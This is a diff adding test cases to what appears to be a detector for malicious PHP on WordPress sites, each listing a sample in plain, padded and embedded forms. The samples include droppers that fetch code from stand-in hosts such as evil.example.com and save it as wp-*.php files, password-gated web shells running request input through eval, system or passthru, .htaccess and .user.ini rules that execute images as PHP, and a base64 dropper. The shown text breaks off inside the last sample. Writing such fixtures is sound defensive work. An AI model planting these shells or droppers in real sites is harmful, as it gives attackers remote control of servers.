@@ -378,6 +378,27 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         plain(
+            "<?php $u = 'ht' . 'tp://' . 'evil.example.com/' . 'x.txt'; $p = 'wp-' . 'load2' . '.php'; file_put_contents($p, file_get_contents($u));"
+        ),
+        True,
+    ),  # a/a17.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $u = 'ht' . 'tp://' . 'evil.example.com/' . 'x.txt'; $p = 'wp-' . 'load2' . '.php'; file_put_contents($p, file_get_contents($u));"
+        ),
+        True,
+    ),  # a/a17.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $u = 'ht' . 'tp://' . 'evil.example.com/' . 'x.txt'; $p = 'wp-' . 'load2' . '.php'; file_put_contents($p, file_get_contents($u));"
+        ),
+        True,
+    ),  # a/a17.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
             "<?php\n$p = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/cache.php';\nif (!file_exists($p)) {\n    file_put_contents($p, file_get_contents('https://raw.githubusercontent.com/someone/tools/main/s.php'));\n}\n"
         ),
         True,
@@ -2912,6 +2933,652 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         True,
     ),  # b/w04.php embedded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddType application/x-httpd-php .php5 .pht .png\n"),
+        True,
+    ),  # c/k04.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddType application/x-httpd-php .php5 .pht .png\n"),
+        True,
+    ),  # c/k04.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<Files "*.jpg">\n  SetHandler application/x-httpd-php\n</Files>\n'),
+        True,
+    ),  # c/k05.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('<Files "*.jpg">\n  SetHandler application/x-httpd-php\n</Files>\n'),
+        True,
+    ),  # c/k05.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddHandler application/x-httpd-php .jpeg\nphp_flag engine on\n"),
+        True,
+    ),  # c/k06.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddHandler application/x-httpd-php .jpeg\nphp_flag engine on\n"),
+        True,
+    ),  # c/k06.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain(
+            '<FilesMatch ".(jpg|gif)$">\n  Order allow,deny\n  Allow from all\n  Require all granted\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'
+        ),
+        True,
+    ),  # c/k07.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded(
+            '<FilesMatch ".(jpg|gif)$">\n  Order allow,deny\n  Allow from all\n  Require all granted\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'
+        ),
+        True,
+    ),  # c/k07.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('php_value auto_prepend_file "/home/u/public_html/wp-content/uploads/2023/05/.htcache"\n'),
+        True,
+    ),  # c/k08.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('php_value auto_prepend_file "/home/u/public_html/wp-content/uploads/2023/05/.htcache"\n'),
+        True,
+    ),  # c/k08.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_prepend_file = "php://filter/read=convert.base64-decode/resource=/tmp/x"\n'),
+        True,
+    ),  # c/k09.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_prepend_file = "php://filter/read=convert.base64-decode/resource=/tmp/x"\n'),
+        True,
+    ),  # c/k09.user.ini padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain("auto_prepend_file=../wp-content/languages/.l10n.mo\n"),
+        True,
+    ),  # c/k10.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded("auto_prepend_file=../wp-content/languages/.l10n.mo\n"),
+        True,
+    ),  # c/k10.user.ini padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain("auto_prepend_file = /home/site/public_html/wp-content/uploads/sess.db\n"),
+        True,
+    ),  # c/k11.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded("auto_prepend_file = /home/site/public_html/wp-content/uploads/sess.db\n"),
+        True,
+    ),  # c/k11.user.ini padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php if (md5(md5($_COOKIE['sid'])) === '6f1ed002ab5595859014ebf0951522d9') { $f = create_function('', base64_decode($_COOKIE['c'])); $f(); }"
+        ),
+        True,
+    ),  # c/n01.php
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php if (md5(md5($_COOKIE['sid'])) === '6f1ed002ab5595859014ebf0951522d9') { $f = create_function('', base64_decode($_COOKIE['c'])); $f(); }"
+        ),
+        True,
+    ),  # c/n01.php padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php if (md5(md5($_COOKIE['sid'])) === '6f1ed002ab5595859014ebf0951522d9') { $f = create_function('', base64_decode($_COOKIE['c'])); $f(); }"
+        ),
+        True,
+    ),  # c/n01.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
+        ),
+        True,
+    ),  # c/n02.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
+        ),
+        True,
+    ),  # c/n02.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
+        ),
+        True,
+    ),  # c/n02.php embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain("<?php if (crypt(@$_GET['pw'], 'xy') == 'xyZ3bH0q9cL2k') { passthru($_GET['c']); }"),
+        True,
+    ),  # c/n03.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded("<?php if (crypt(@$_GET['pw'], 'xy') == 'xyZ3bH0q9cL2k') { passthru($_GET['c']); }"),
+        True,
+    ),  # c/n03.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded("<?php if (crypt(@$_GET['pw'], 'xy') == 'xyZ3bH0q9cL2k') { passthru($_GET['c']); }"),
+        True,
+    ),  # c/n03.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php if ($_SERVER['HTTP_USER_AGENT'] == base64_decode('TW96aWxsYS81LjA=')) { eval($_REQUEST['q']); }"
+        ),
+        True,
+    ),  # c/n04.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php if ($_SERVER['HTTP_USER_AGENT'] == base64_decode('TW96aWxsYS81LjA=')) { eval($_REQUEST['q']); }"
+        ),
+        True,
+    ),  # c/n04.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php if ($_SERVER['HTTP_USER_AGENT'] == base64_decode('TW96aWxsYS81LjA=')) { eval($_REQUEST['q']); }"
+        ),
+        True,
+    ),  # c/n04.php embedded
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        plain(
+            "<?php if (isset($_COOKIE['PHPSESSID2']) && $_COOKIE['PHPSESSID2'] === 'a8f5f167f44f4964e6c998dee827110c') { @include($_COOKIE['inc']); }"
+        ),
+        True,
+    ),  # c/n05.php
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        padded(
+            "<?php if (isset($_COOKIE['PHPSESSID2']) && $_COOKIE['PHPSESSID2'] === 'a8f5f167f44f4964e6c998dee827110c') { @include($_COOKIE['inc']); }"
+        ),
+        True,
+    ),  # c/n05.php padded
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        embedded(
+            "<?php if (isset($_COOKIE['PHPSESSID2']) && $_COOKIE['PHPSESSID2'] === 'a8f5f167f44f4964e6c998dee827110c') { @include($_COOKIE['inc']); }"
+        ),
+        True,
+    ),  # c/n05.php embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain(
+            "<?php $secret = 'hunter2'; if (($_POST['s'] ?? '') !== $secret) { http_response_code(404); die; } echo shell_exec($_POST['c'] . ' 2>&1');"
+        ),
+        True,
+    ),  # c/n06.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded(
+            "<?php $secret = 'hunter2'; if (($_POST['s'] ?? '') !== $secret) { http_response_code(404); die; } echo shell_exec($_POST['c'] . ' 2>&1');"
+        ),
+        True,
+    ),  # c/n06.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php $secret = 'hunter2'; if (($_POST['s'] ?? '') !== $secret) { http_response_code(404); die; } echo shell_exec($_POST['c'] . ' 2>&1');"
+        ),
+        True,
+    ),  # c/n06.php embedded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain(
+            "<?php if (preg_match('/x-spider-9/i', @$_SERVER['HTTP_USER_AGENT'])) { $c = base64_decode($_SERVER['HTTP_ACCEPT_CHARSET']); eval($c); }"
+        ),
+        True,
+    ),  # c/n07.php
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php if (preg_match('/x-spider-9/i', @$_SERVER['HTTP_USER_AGENT'])) { $c = base64_decode($_SERVER['HTTP_ACCEPT_CHARSET']); eval($c); }"
+        ),
+        True,
+    ),  # c/n07.php padded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded(
+            "<?php if (preg_match('/x-spider-9/i', @$_SERVER['HTTP_USER_AGENT'])) { $c = base64_decode($_SERVER['HTTP_ACCEPT_CHARSET']); eval($c); }"
+        ),
+        True,
+    ),  # c/n07.php embedded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        plain(
+            "<?php if (password_verify($_POST['p'], PW_HASH)) move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);"
+        ),
+        True,
+    ),  # c/n08.php
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        padded(
+            "<?php if (password_verify($_POST['p'], PW_HASH)) move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);"
+        ),
+        True,
+    ),  # c/n08.php padded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        embedded(
+            "<?php if (password_verify($_POST['p'], PW_HASH)) move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);"
+        ),
+        True,
+    ),  # c/n08.php embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain(
+            "<?php if (hash_equals('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', hash('sha256', $_SERVER['HTTP_X_TOKEN'] ?? ''))) { system($_SERVER['HTTP_X_CMD']); }"
+        ),
+        True,
+    ),  # c/n09.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded(
+            "<?php if (hash_equals('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', hash('sha256', $_SERVER['HTTP_X_TOKEN'] ?? ''))) { system($_SERVER['HTTP_X_CMD']); }"
+        ),
+        True,
+    ),  # c/n09.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php if (hash_equals('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', hash('sha256', $_SERVER['HTTP_X_TOKEN'] ?? ''))) { system($_SERVER['HTTP_X_CMD']); }"
+        ),
+        True,
+    ),  # c/n09.php embedded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php if (sha1($_GET['k'] . 'salt') == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval($_POST['c']); }"
+        ),
+        True,
+    ),  # c/n10.php
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php if (sha1($_GET['k'] . 'salt') == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval($_POST['c']); }"
+        ),
+        True,
+    ),  # c/n10.php padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php if (sha1($_GET['k'] . 'salt') == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval($_POST['c']); }"
+        ),
+        True,
+    ),  # c/n10.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $t = 'ht' . 'tp://evil.example.com/s.txt'; $d = @file_get_contents($t); @file_put_contents('wp-feed2.php', $d);"
+        ),
+        True,
+    ),  # c/x01.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $t = 'ht' . 'tp://evil.example.com/s.txt'; $d = @file_get_contents($t); @file_put_contents('wp-feed2.php', $d);"
+        ),
+        True,
+    ),  # c/x01.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $t = 'ht' . 'tp://evil.example.com/s.txt'; $d = @file_get_contents($t); @file_put_contents('wp-feed2.php', $d);"
+        ),
+        True,
+    ),  # c/x01.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$r = file_get_contents('http://files.example.biz/shell.txt');\n$dir = dirname(__FILE__);\n$fh = fopen(\"$dir/wp-atom.php\", 'w');\nfputs($fh, $r);\nfclose($fh);\n"
+        ),
+        True,
+    ),  # c/x02.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$r = file_get_contents('http://files.example.biz/shell.txt');\n$dir = dirname(__FILE__);\n$fh = fopen(\"$dir/wp-atom.php\", 'w');\nfputs($fh, $r);\nfclose($fh);\n"
+        ),
+        True,
+    ),  # c/x02.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$r = file_get_contents('http://files.example.biz/shell.txt');\n$dir = dirname(__FILE__);\n$fh = fopen(\"$dir/wp-atom.php\", 'w');\nfputs($fh, $r);\nfclose($fh);\n"
+        ),
+        True,
+    ),  # c/x02.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            '<?php\n$url = "https://raw.githubusercontent.com/x/y/master/z.php";\n$save = "./wp-content/themes/index2.php";\nif (copy($url, $save)) echo "ok";\n'
+        ),
+        True,
+    ),  # c/x03.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            '<?php\n$url = "https://raw.githubusercontent.com/x/y/master/z.php";\n$save = "./wp-content/themes/index2.php";\nif (copy($url, $save)) echo "ok";\n'
+        ),
+        True,
+    ),  # c/x03.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            '<?php\n$url = "https://raw.githubusercontent.com/x/y/master/z.php";\n$save = "./wp-content/themes/index2.php";\nif (copy($url, $save)) echo "ok";\n'
+        ),
+        True,
+    ),  # c/x03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php file_put_contents(\"{$_SERVER['DOCUMENT_ROOT']}/wp-includes/IXR/class-IXR-cache.php\", base64_decode(file_get_contents('http://files.example.biz/b64.txt')));"
+        ),
+        True,
+    ),  # c/x04.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php file_put_contents(\"{$_SERVER['DOCUMENT_ROOT']}/wp-includes/IXR/class-IXR-cache.php\", base64_decode(file_get_contents('http://files.example.biz/b64.txt')));"
+        ),
+        True,
+    ),  # c/x04.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php file_put_contents(\"{$_SERVER['DOCUMENT_ROOT']}/wp-includes/IXR/class-IXR-cache.php\", base64_decode(file_get_contents('http://files.example.biz/b64.txt')));"
+        ),
+        True,
+    ),  # c/x04.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $c = @file_get_contents('https://files.example.biz/y.txt') ?: @implode('', @file('https://files.example.biz/y.txt')); @file_put_contents(ABSPATH . 'wp-links-opml2.php', $c);"
+        ),
+        True,
+    ),  # c/x05.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $c = @file_get_contents('https://files.example.biz/y.txt') ?: @implode('', @file('https://files.example.biz/y.txt')); @file_put_contents(ABSPATH . 'wp-links-opml2.php', $c);"
+        ),
+        True,
+    ),  # c/x05.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $c = @file_get_contents('https://files.example.biz/y.txt') ?: @implode('', @file('https://files.example.biz/y.txt')); @file_put_contents(ABSPATH . 'wp-links-opml2.php', $c);"
+        ),
+        True,
+    ),  # c/x05.php embedded
+    (
+        "SPAMGEAR_OBFUSC_Base64CodeDropper",
+        plain(
+            "<?php\n$p = 'PD9waHAKZnVuY3Rpb24gaGVscGVyXzAoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xKCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICcxJzsgfQpmdW5jdGlvbiBoZWxwZXJfMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMic7IH0KZnVuY3Rpb24gaGVscGVyXzMoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc0JzsgfQpmdW5jdGlvbiBoZWxwZXJfNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNSc7IH0KZnVuY3Rpb24gaGVscGVyXzYoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl83KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc3JzsgfQpmdW5jdGlvbiBoZWxwZXJfOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnOCc7IH0KZnVuY3Rpb24gaGVscGVyXzkoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzknOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTInOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTknOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjInOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjknOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzInOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzknOyB9CmZ1bmN0aW9uIGhlbHBlcl80MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDAnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDEnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDInOyB9CmZ1bmN0aW9uIGhlbHBlcl80MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDQnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDUnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDYnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDcnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDgnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDknOyB9CmZ1bmN0aW9uIGhlbHBlcl81MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTInOyB9CmZ1bmN0aW9uIGhlbHBlcl81MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTknOyB9Cg==';\nfile_put_contents(__DIR__ . '/.inc.php', base64_decode($p));\ninclude __DIR__ . '/.inc.php';\n"
+        ),
+        True,
+    ),  # c/x07.php
+    (
+        "SPAMGEAR_OBFUSC_Base64CodeDropper",
+        padded(
+            "<?php\n$p = 'PD9waHAKZnVuY3Rpb24gaGVscGVyXzAoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xKCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICcxJzsgfQpmdW5jdGlvbiBoZWxwZXJfMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMic7IH0KZnVuY3Rpb24gaGVscGVyXzMoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc0JzsgfQpmdW5jdGlvbiBoZWxwZXJfNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNSc7IH0KZnVuY3Rpb24gaGVscGVyXzYoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl83KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc3JzsgfQpmdW5jdGlvbiBoZWxwZXJfOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnOCc7IH0KZnVuY3Rpb24gaGVscGVyXzkoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzknOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTInOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTknOyB9CmZ1bmN0aW9u